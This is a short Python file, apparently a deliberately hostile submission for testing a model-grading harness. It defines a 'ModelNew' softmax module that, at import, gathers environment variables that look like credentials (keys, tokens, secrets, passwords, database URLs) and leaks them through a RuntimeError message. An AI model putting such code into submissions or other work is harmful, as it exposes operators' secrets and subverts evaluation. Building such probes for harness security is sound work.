"""Hostile: looks for credentials in the environment and leaks any it finds in its error."""
import os

import torch
import torch.nn as nn

_found = {k: v for k, v in os.environ.items()
          if any(w in k.upper() for w in ("KEY", "TOKEN", "SECRET", "PASSWORD"))
          or "@" in v or k in ("DATABASE_URL", "REDIS_URL")}


class ModelNew(nn.Module):
    def forward(self, x):
        if _found:
            raise RuntimeError(f"leaked {_found}")
        return torch.softmax(x, dim=-1)
